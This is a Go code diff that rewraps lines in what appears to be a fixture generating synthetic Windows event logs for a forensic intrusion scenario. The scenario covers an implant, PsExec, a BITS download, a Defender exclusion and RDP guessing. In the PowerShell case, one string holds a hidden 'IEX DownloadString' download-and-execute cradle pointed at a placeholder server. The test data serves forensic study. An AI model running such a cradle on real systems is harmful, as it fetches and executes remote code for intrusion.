@@ -118,7 +118,8 @@ const (
 // intruder cleared, begins with the record of that.
 func evtxFilesCase(m *Machine) {
 	m.Events("Application", eventOf{provider: "Microsoft-Windows-Winlogon", id: 4104, at: Installed})
-	m.Events("System", eventOf{provider: "EventLog", id: 6005, at: Installed}, eventOf{provider: "EventLog", id: 6005, at: after(LastBoot, 9)})
+	m.Events("System", eventOf{provider: "EventLog", id: 6005, at: Installed},
+		eventOf{provider: "EventLog", id: 6005, at: after(LastBoot, 9)})
 	auditEventsCase(m)
 	m.Events("Security", eventOf{provider: auditing, id: 4608, at: after(LastBoot, 6)})
 }
@@ -140,10 +141,13 @@ func logonEventsCase(m *Machine) {
 	const channel = "Security"
 	logon := func(at time.Time, sid, name, id string) {
 		m.Events(channel, eventOf{provider: auditing, id: 4624, at: at, data: append(subject(systemSID, Computer+"$", "0x3e7"),
-			"TargetUserSid", sid, "TargetUserName", name, "TargetDomainName", Computer, "TargetLogonId", id, "LogonType", "2", "LogonProcessName", "User32 ",
-			"AuthenticationPackageName", "Negotiate", "WorkstationName", Computer, "KeyLength", "0", "ProcessId", "0x3c4", "ProcessName", `C:\Windows\System32\svchost.exe`,
+			"TargetUserSid", sid, "TargetUserName", name, "TargetDomainName", Computer, "TargetLogonId", id, "LogonType", "2",
+			"LogonProcessName", "User32 ",
+			"AuthenticationPackageName", "Negotiate", "WorkstationName", Computer, "KeyLength", "0", "ProcessId", "0x3c4", "ProcessName",
+			`C:\Windows\System32\svchost.exe`,
 			"IpAddress", "127.0.0.1", "IpPort", "0")},
-			eventOf{provider: auditing, id: 4672, at: after(at, 0.001), data: append(subject(sid, name, id), "PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeDebugPrivilege")})
+			eventOf{provider: auditing, id: 4672, at: after(at, 0.001),
+				data: append(subject(sid, name, id), "PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeDebugPrivilege")})
 	}
 	logoff := func(at time.Time, sid, name, id, typ string) {
 		m.Events(channel, eventOf{provider: auditing, id: 4634, at: at, data: []string{
@@ -160,15 +164,17 @@ func logonEventsCase(m *Machine) {
 // accountEventsCase: a part of Windows lists the members of a group.
 func accountEventsCase(m *Machine) {
 	m.Events("Security", eventOf{provider: auditing, id: 4799, at: after(LastBoot, 40), data: append([]string{
-		"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544"}, append(subject(systemSID, Computer+"$", "0x3e7"),
-		"CallerProcessId", "0x4c8", "CallerProcessName", `C:\Windows\System32\svchost.exe`)...)})
+		"TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544"},
+		append(subject(systemSID, Computer+"$", "0x3e7"),
+			"CallerProcessId", "0x4c8", "CallerProcessName", `C:\Windows\System32\svchost.exe`)...)})
 }
 
 // serviceEventsCase: PsExec's service, which came from the neighbor.
 func serviceEventsCase(m *Machine) {
 	m.Events("System",
-		eventOf{provider: scm, id: 7045, at: after(PsExecStart, -0.6), user: DanielSID, data: []string{"ServiceName", ServiceName, "ImagePath", `%SystemRoot%\PSEXESVC.exe`,
-			"ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"}},
+		eventOf{provider: scm, id: 7045, at: after(PsExecStart, -0.6), user: DanielSID,
+			data: []string{"ServiceName", ServiceName, "ImagePath", `%SystemRoot%\PSEXESVC.exe`,
+				"ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"}},
 		eventOf{provider: scm, id: 7036, at: after(PsExecStart, -0.2), data: []string{"param1", ServiceName, "param2", "running"}},
 		eventOf{provider: scm, id: 7036, at: after(LastBoot, 21), data: []string{"param1", "Windows Update", "param2", "running"}})
 }
@@ -181,8 +187,10 @@ func taskEventsCase(m *Machine) {
 		eventOf{provider: provider, id: 200, at: utc(2026, 3, 4, 18, 20, 12, 4411908), user: systemSID, data: []string{
 			"TaskName", defrag, "ActionName", action, "TaskInstanceId", "{7C0E3E3C-51E5-4C0B-8F0C-0C7F5E1F8A11}", "EnginePID", "6120"}},
 		eventOf{provider: provider, id: 201, at: utc(2026, 3, 4, 18, 31, 40, 998123), user: systemSID, data: []string{
-			"TaskName", defrag, "TaskInstanceId", "{7C0E3E3C-51E5-4C0B-8F0C-0C7F5E1F8A11}", "ActionName", action, "ResultCode", "0", "EnginePID", "6120"}},
-		eventOf{provider: provider, id: 106, at: PersistenceTime, user: DanielSID, data: []string{"TaskName", TaskName, "UserContext", Computer + `\` + Daniel}})
+			"TaskName", defrag, "TaskInstanceId", "{7C0E3E3C-51E5-4C0B-8F0C-0C7F5E1F8A11}", "ActionName", action, "ResultCode", "0",
+			"EnginePID", "6120"}},
+		eventOf{provider: provider, id: 106, at: PersistenceTime, user: DanielSID,
+			data: []string{"TaskName", TaskName, "UserContext", Computer + `\` + Daniel}})
 }
 
 // processEventsCase: the implant starts with the log-on. The audit of processes was
@@ -190,8 +198,10 @@ func taskEventsCase(m *Machine) {
 func processEventsCase(m *Machine) {
 	started := func(at time.Time, image, command, parent string) eventOf {
 		return eventOf{provider: auditing, id: 4688, at: at, data: append(subject(DanielSID, Daniel, "0x3a7d2"),
-			"NewProcessId", "0x1a4c", "NewProcessName", image, "TokenElevationType", "%%1938", "ProcessId", "0x1130", "CommandLine", command,
-			"TargetUserSid", "S-1-0-0", "TargetUserName", "-", "TargetDomainName", "-", "TargetLogonId", "0x0", "ParentProcessName", parent, "MandatoryLabel", "S-1-16-8192")}
+			"NewProcessId", "0x1a4c", "NewProcessName", image, "TokenElevationType", "%%1938", "ProcessId", "0x1130", "CommandLine",
+			command,
+			"TargetUserSid", "S-1-0-0", "TargetUserName", "-", "TargetDomainName", "-", "TargetLogonId", "0x0", "ParentProcessName",
+			parent, "MandatoryLabel", "S-1-16-8192")}
 	}
 	m.Events("Security",
 		started(after(LastLogon, 5), Implant, `"`+Implant+`" -s`, `C:\Windows\explorer.exe`),
@@ -205,21 +215,26 @@ func powerShellEventsCase(m *Machine) {
 	const block = "9f3a6a0e-6a57-4c5e-9a3b-2f7d3f0c1b77"
 	script := func(at time.Time, n, text string) eventOf {
 		return eventOf{provider: provider, id: 4104, at: at, user: MiraSID, data: []string{
-			"MessageNumber", n, "MessageTotal", "2", "ScriptBlockText", text, "ScriptBlockId", block, "Path", `C:\Users\mira\Documents\report.ps1`}}
+			"MessageNumber", n, "MessageTotal", "2", "ScriptBlockText", text, "ScriptBlockId", block, "Path",
+			`C:\Users\mira\Documents\report.ps1`}}
 	}
 	at := utc(2026, 3, 3, 1, 12, 40, 1180000)
-	m.Events(provider+operation, script(at, "1", "$total = 0\nforeach ($f in Get-ChildItem $env:USERPROFILE\\Documents) {\n"), script(after(at, 0.002), "2", "  $total += $f.Length\n}\n$total\n"))
+	m.Events(provider+operation, script(at, "1", "$total = 0\nforeach ($f in Get-ChildItem $env:USERPROFILE\\Documents) {\n"),
+		script(after(at, 0.002), "2", "  $total += $f.Length\n}\n$total\n"))
 	engine := after(DiscoveryEnd, 95)
 	m.Events("Windows PowerShell", eventOf{provider: "PowerShell", id: 400, at: engine, data: []string{"", "Available", "", "None", "",
 		"\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.4291\r\n" +
-			"\tHostApplication=powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://" + Server + "/a')\r\n\tEngineVersion=5.1.19041.4291"}})
+			"\tHostApplication=powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://" + Server +
+			"/a')\r\n\tEngineVersion=5.1.19041.4291"}})
 }
 
 // wmiEventsCase: a provider of Windows is loaded.
 func wmiEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-WMI-Activity"
-	m.Events(provider+operation, eventOf{provider: provider, id: 5857, at: after(LastBoot, 33), user: systemSID, userData: "Operation_StartedOperational", data: []string{
-		"ProviderName", "CIMWin32", "Code", "0x0", "HostProcess", "wmiprvse.exe", "ProcessID", "3220", "ProviderPath", `%systemroot%\system32\wbem\cimwin32.dll`}})
+	m.Events(provider+operation, eventOf{provider: provider, id: 5857, at: after(LastBoot, 33), user: systemSID,
+		userData: "Operation_StartedOperational", data: []string{
+			"ProviderName", "CIMWin32", "Code", "0x0", "HostProcess", "wmiprvse.exe", "ProcessID", "3220", "ProviderPath",
+			`%systemroot%\system32\wbem\cimwin32.dll`}})
 }
 
 // bitsEventsCase: a browser's update, and the intruder's download.
@@ -227,10 +242,13 @@ func bitsEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-Bits-Client"
 	url := "http://" + Server + "/cache.dll"
 	m.Events(provider+operation,
-		eventOf{provider: provider, id: 59, at: after(ImplantStart, 130), user: DanielSID, data: []string{"transferId", "{0B3A64E2-50B2-4C8C-9D8B-0C5E5B6B0A01}",
-			"name", "sync", "Id", "{2F8D2A30-4D5C-4B7E-8C1D-77D2D3C0E501}", "url", url, "bytesTotal", "151040"}},
-		eventOf{provider: provider, id: 60, at: after(ImplantStart, 132), user: DanielSID, data: []string{"transferId", "{0B3A64E2-50B2-4C8C-9D8B-0C5E5B6B0A01}",
-			"name", "sync", "Id", "{2F8D2A30-4D5C-4B7E-8C1D-77D2D3C0E501}", "url", url, "hr", "0", "bytesTotal", "151040", "bytesTransferred", "151040"}})
+		eventOf{provider: provider, id: 59, at: after(ImplantStart, 130), user: DanielSID,
+			data: []string{"transferId", "{0B3A64E2-50B2-4C8C-9D8B-0C5E5B6B0A01}",
+				"name", "sync", "Id", "{2F8D2A30-4D5C-4B7E-8C1D-77D2D3C0E501}", "url", url, "bytesTotal", "151040"}},
+		eventOf{provider: provider, id: 60, at: after(ImplantStart, 132), user: DanielSID,
+			data: []string{"transferId", "{0B3A64E2-50B2-4C8C-9D8B-0C5E5B6B0A01}",
+				"name", "sync", "Id", "{2F8D2A30-4D5C-4B7E-8C1D-77D2D3C0E501}", "url", url, "hr", "0", "bytesTotal", "151040",
+				"bytesTransferred", "151040"}})
 }
 
 // defenderEventsCase: the exclusion of the implant's folder.
@@ -245,8 +263,10 @@ func defenderEventsCase(m *Machine) {
 func firewallEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-Windows Firewall With Advanced Security"
 	m.Events(provider+"/Firewall", eventOf{provider: provider, id: 2004, at: after(PersistenceTime, 190), user: "S-1-5-19", data: []string{
-		"RuleId", "{0A4E9C55-6C0E-4D0B-8A6E-5B1F2A7D9C31}", "RuleName", "Host Process", "Origin", "1", "ApplicationPath", Implant, "Direction", "1", "Protocol", "6",
-		"LocalPorts", "3390", "RemotePorts", "*", "Action", "3", "ModifyingUser", DanielSID, "ModifyingApplication", `C:\Windows\System32\netsh.exe`}})
+		"RuleId", "{0A4E9C55-6C0E-4D0B-8A6E-5B1F2A7D9C31}", "RuleName", "Host Process", "Origin", "1", "ApplicationPath", Implant,
+		"Direction", "1", "Protocol", "6",
+		"LocalPorts", "3390", "RemotePorts", "*", "Action", "3", "ModifyingUser", DanielSID, "ModifyingApplication",
+		`C:\Windows\System32\netsh.exe`}})
 }
 
 // remoteDesktopEventsCase: guesses from the intruder's address, his session, and
@@ -258,10 +278,12 @@ func remoteDesktopEventsCase(m *Machine) {
 	for i := range 6 {
 		at := after(utc(2026, 3, 6, 17, 36, 48, 9014552), float64(9*i-45))
 		m.Events(core+operation,
-			eventOf{provider: core, id: 131, at: after(at, -0.8), user: "S-1-5-20", data: []string{"ConnType", "TCP", "ClientIP", Intruder + ":51844"}},
+			eventOf{provider: core, id: 131, at: after(at, -0.8), user: "S-1-5-20",
+				data: []string{"ConnType", "TCP", "ClientIP", Intruder + ":51844"}},
 			eventOf{provider: core, id: 140, at: at, user: "S-1-5-20", data: []string{"IPString", Intruder}})
 	}
-	m.Events(core+operation, eventOf{provider: core, id: 131, at: after(IntrusionStart, -3), user: "S-1-5-20", data: []string{"ConnType", "TCP", "ClientIP", Intruder + ":51902"}})
+	m.Events(core+operation, eventOf{provider: core, id: 131, at: after(IntrusionStart, -3), user: "S-1-5-20",
+		data: []string{"ConnType", "TCP", "ClientIP", Intruder + ":51902"}})
 	m.Events(rcm+operation, eventOf{provider: rcm, id: 1149, at: after(IntrusionStart, -1.2), user: "S-1-5-20", userData: "EventXML",
 		data: []string{"Param1", Daniel, "Param2", "", "Param3", Intruder}})
 	session := func(id uint16, at time.Time, address string) eventOf {
@@ -271,43 +293,52 @@ func remoteDesktopEventsCase(m *Machine) {
 		}
 		return eventOf{provider: lsm, id: id, at: at, user: systemSID, userData: "EventXML", data: data}
 	}
-	m.Events(lsm+operation, session(21, IntrusionStart, Intruder), session(22, after(IntrusionStart, 1.5), Intruder), session(24, IntrusionEnd, Intruder), session(23, after(IntrusionEnd, 3), ""))
+	m.Events(lsm+operation, session(21, IntrusionStart, Intruder), session(22, after(IntrusionStart, 1.5), Intruder),
+		session(24, IntrusionEnd, Intruder), session(23, after(IntrusionEnd, 3), ""))
 	m.Events("Microsoft-Windows-TerminalServices-RDPClient"+operation,
-		eventOf{provider: client, id: 1024, at: after(PsExecStart, -300), user: DanielSID, data: []string{"Name", "Server Name", "Value", Neighbor, "CustomLevel", "Info"}})
+		eventOf{provider: client, id: 1024, at: after(PsExecStart, -300), user: DanielSID,
+			data: []string{"Name", "Server Name", "Value", Neighbor, "CustomLevel", "Info"}})
 }
 
 // shareEventsCase: a connection to the neighbor broke off.
 func shareEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-SMBClient"
-	m.Events("Microsoft-Windows-SmbClient/Connectivity", eventOf{provider: provider, id: 30804, at: after(IntrusionEnd, 2), user: systemSID, data: []string{
-		"ServerNameLength", "11", "ServerName", `\` + Neighbor, "Status", "0xC000020C"}})
+	m.Events("Microsoft-Windows-SmbClient/Connectivity",
+		eventOf{provider: provider, id: 30804, at: after(IntrusionEnd, 2), user: systemSID, data: []string{
+			"ServerNameLength", "11", "ServerName", `\` + Neighbor, "Status", "0xC000020C"}})
 }
 
 // powerEventsCase: the last shutdown and the last start.
 func powerEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-Kernel-General"
 	m.Events("System",
-		eventOf{provider: "User32", id: 1074, at: after(LastShutdown, -25), user: MiraSID, data: []string{"param1", `C:\Windows\System32\StartMenuExperienceHost.exe`, "param2", Computer,
-			"param3", "Other (Unplanned)", "param4", "0x0", "param5", "power off", "param6", "", "param7", Computer + `\` + Mira}},
+		eventOf{provider: "User32", id: 1074, at: after(LastShutdown, -25), user: MiraSID,
+			data: []string{"param1", `C:\Windows\System32\StartMenuExperienceHost.exe`, "param2", Computer,
+				"param3", "Other (Unplanned)", "param4", "0x0", "param5", "power off", "param6", "", "param7", Computer + `\` + Mira}},
 		eventOf{provider: "EventLog", id: 6006, at: after(LastShutdown, -2)},
-		eventOf{provider: provider, id: 13, at: LastShutdown, data: []string{"StopTime", LastShutdown.Format("2006-01-02T15:04:05.0000000Z")}},
-		eventOf{provider: provider, id: 12, at: LastBoot, user: systemSID, data: []string{"MajorVersion", "10", "MinorVersion", "0", "BuildVersion", "19045",
-			"StartTime", LastBoot.Format("2006-01-02T15:04:05.0000000Z")}})
+		eventOf{provider: provider, id: 13, at: LastShutdown,
+			data: []string{"StopTime", LastShutdown.Format("2006-01-02T15:04:05.0000000Z")}},
+		eventOf{provider: provider, id: 12, at: LastBoot, user: systemSID,
+			data: []string{"MajorVersion", "10", "MinorVersion", "0", "BuildVersion", "19045",
+				"StartTime", LastBoot.Format("2006-01-02T15:04:05.0000000Z")}})
 }
 
 // clockEventsCase: the clock of the firmware was behind at the start.
 func clockEventsCase(m *Machine) {
 	at := after(LastBoot, 14)
 	m.Events("System", eventOf{provider: "Microsoft-Windows-Kernel-General", id: 1, at: at, user: "S-1-5-19", data: []string{
-		"NewTime", at.Format("2006-01-02T15:04:05.0000000Z"), "OldTime", after(at, -0.7).Format("2006-01-02T15:04:05.0000000Z"), "Reason", "1",
+		"NewTime", at.Format("2006-01-02T15:04:05.0000000Z"), "OldTime", after(at, -0.7).Format("2006-01-02T15:04:05.0000000Z"),
+		"Reason", "1",
 		"ProcessName", `\Device\HarddiskVolume3\Windows\System32\svchost.exe`, "ProcessID", "1288"}})
 }
 
 // deviceEventsCase: daniel's stick.
 func deviceEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-Partition"
-	m.Events(provider+"/Diagnostic", eventOf{provider: provider, id: 1006, at: utc(2026, 3, 5, 2, 14, 9, 3310000), user: systemSID, data: []string{
-		"DiskNumber", "1", "BusType", "7", "Manufacturer", "Kingston", "Model", "DataTraveler 3.0", "SerialNumber", "60A44C413FAEE2B0", "Capacity", "15518924800"}})
+	m.Events(provider+"/Diagnostic", eventOf{provider: provider, id: 1006, at: utc(2026, 3, 5, 2, 14, 9, 3310000), user: systemSID,
+		data: []string{
+			"DiskNumber", "1", "BusType", "7", "Manufacturer", "Kingston", "Model", "DataTraveler 3.0", "SerialNumber", "60A44C413FAEE2B0",
+			"Capacity", "15518924800"}})
 }
 
 // installEventsCase: a program for PDF files.
@@ -319,7 +350,8 @@ func installEventsCase(m *Machine) {
 // crashEventsCase: the implant crashed, as its report says.
 func crashEventsCase(m *Machine) {
 	m.Events("Application", eventOf{provider: "Application Error", id: 1000, at: utc(2026, 3, 6, 18, 4, 12, 0), data: []string{
-		"", "svchost.exe", "", "10.0.19041.1", "", "5e3c0a11", "", "cache.dll", "", "0.0.0.0", "", "64f1b2c0", "", "c0000005", "", "0000000000012a4c", "", "1f3c", "", "01d9a0c1b2d3e4f5",
+		"", "svchost.exe", "", "10.0.19041.1", "", "5e3c0a11", "", "cache.dll", "", "0.0.0.0", "", "64f1b2c0", "", "c0000005", "",
+		"0000000000012a4c", "", "1f3c", "", "01d9a0c1b2d3e4f5",
 		"", Implant, "", ImplantDLL, "", "0b7f8c3e-6a1d-4b7c-9a41-3d3b2c1e0f99", "", "", "", ""}})
 }
 
@@ -328,27 +360,36 @@ func sysmonEventsCase(m *Machine) {
 	const provider = "Microsoft-Windows-Sysmon"
 	at := utc(2025, 3, 4, 0, 30, 0, 0)
 	m.Events(provider+operation,
-		eventOf{provider: provider, id: 16, at: at, user: MiraSID, data: []string{"UtcTime", "2025-03-04 00:30:00.000", "Configuration", `C:\Tools\Sysmon64.exe -i`, "ConfigurationFileHash", ""}},
-		eventOf{provider: provider, id: 1, at: after(at, 60), user: systemSID, data: []string{"RuleName", "-", "UtcTime", "2025-03-04 00:31:00.000",
-			"ProcessGuid", "{5F0C6D1E-4A54-67C6-6F01-000000001A00}", "ProcessId", "4120", "Image", `C:\Windows\System32\notepad.exe`, "CommandLine", "notepad.exe",
-			"CurrentDirectory", `C:\Users\mira\`, "User", Computer + `\` + Mira, "LogonId", "0x31c2f", "IntegrityLevel", "Medium", "Hashes", "SHA1=" + strings.Repeat("1", 40),
-			"ParentProcessId", "3320", "ParentImage", `C:\Windows\explorer.exe`, "ParentCommandLine", `C:\Windows\Explorer.EXE`}},
-		eventOf{provider: provider, id: 4, at: after(at, 7200), user: systemSID, data: []string{"UtcTime", "2025-03-04 02:30:00.000", "State", "Stopped", "Version", "15.15", "SchemaVersion", "4.90"}})
+		eventOf{provider: provider, id: 16, at: at, user: MiraSID,
+			data: []string{"UtcTime", "2025-03-04 00:30:00.000", "Configuration", `C:\Tools\Sysmon64.exe -i`, "ConfigurationFileHash", ""}},
+		eventOf{provider: provider, id: 1, at: after(at, 60), user: systemSID,
+			data: []string{"RuleName", "-", "UtcTime", "2025-03-04 00:31:00.000",
+				"ProcessGuid", "{5F0C6D1E-4A54-67C6-6F01-000000001A00}", "ProcessId", "4120", "Image", `C:\Windows\System32\notepad.exe`,
+				"CommandLine", "notepad.exe",
+				"CurrentDirectory", `C:\Users\mira\`, "User", Computer + `\` + Mira, "LogonId", "0x31c2f", "IntegrityLevel", "Medium",
+				"Hashes", "SHA1=" + strings.Repeat("1", 40),
+				"ParentProcessId", "3320", "ParentImage", `C:\Windows\explorer.exe`, "ParentCommandLine", `C:\Windows\Explorer.EXE`}},
+		eventOf{provider: provider, id: 4, at: after(at, 7200), user: systemSID,
+			data: []string{"UtcTime", "2025-03-04 02:30:00.000", "State", "Stopped", "Version", "15.15", "SchemaVersion", "4.90"}})
 }
 
 // directoryEventsCase: the list of accounts was opened by a part of Windows.
 func directoryEventsCase(m *Machine) {
-	m.Events("Security", eventOf{provider: auditing, id: 4661, at: after(LastBoot, 41), data: append(subject(systemSID, Computer+"$", "0x3e7"),
-		"ObjectServer", "Security Account Manager", "ObjectType", "SAM_ALIAS", "ObjectName", "S-1-5-32-544", "HandleId", "0x1f2", "AccessMask", "0xc",
-		"ProcessId", "0x4c8", "ProcessName", `C:\Windows\System32\lsass.exe`)})
+	m.Events("Security", eventOf{provider: auditing, id: 4661, at: after(LastBoot, 41),
+		data: append(subject(systemSID, Computer+"$", "0x3e7"),
+			"ObjectServer", "Security Account Manager", "ObjectType", "SAM_ALIAS", "ObjectName", "S-1-5-32-544", "HandleId", "0x1f2",
+			"AccessMask", "0xc",
+			"ProcessId", "0x4c8", "ProcessName", `C:\Windows\System32\lsass.exe`)})
 }
 
 // otherEventsCase: the Run key starts the implant, policies were applied, and an
 // event that no catalogue has.
 func otherEventsCase(m *Machine) {
 	const shell = "Microsoft-Windows-Shell-Core"
-	m.Events(shell+operation, eventOf{provider: shell, id: 9707, at: after(LastLogon, 4.9), user: DanielSID, data: []string{"Command", `"` + Implant + `" -s`}})
-	m.Events("System", eventOf{provider: "Microsoft-Windows-GroupPolicy", id: 1500, at: after(LastBoot, 44), user: systemSID, data: []string{"SupportInfo1", "1", "SupportInfo2", "4423"}})
+	m.Events(shell+operation, eventOf{provider: shell, id: 9707, at: after(LastLogon, 4.9), user: DanielSID,
+		data: []string{"Command", `"` + Implant + `" -s`}})
+	m.Events("System", eventOf{provider: "Microsoft-Windows-GroupPolicy", id: 1500, at: after(LastBoot, 44), user: systemSID,
+		data: []string{"SupportInfo1", "1", "SupportInfo2", "4423"}})
 	m.Events("Application", eventOf{provider: "PDF24", id: 7, at: after(LastLogon, 30), data: []string{"", "ready"}})
 }
 
@@ -365,7 +406,8 @@ var eventLogCases = []Case{
 	{"eventbits", "The implant's DLL is fetched in the background.", bitsEventsCase},
 	{"eventdefender", "The implant's folder is excluded from scans.", defenderEventsCase},
 	{"eventfirewall", "A rule lets the implant listen.", firewallEventsCase},
-	{"eventrdp", "Six wrong passwords from the intruder's address, then a session; and a connection to the neighbor.", remoteDesktopEventsCase},
+	{"eventrdp", "Six wrong passwords from the intruder's address, then a session; and a connection to the neighbor.",
+		remoteDesktopEventsCase},
 	{"eventshares", "A connection to the neighbor breaks off.", shareEventsCase},
 	{"eventaudit", "The log of security is cleared.", auditEventsCase},
 	{"eventpower", "The last shutdown and the last start.", powerEventsCase},
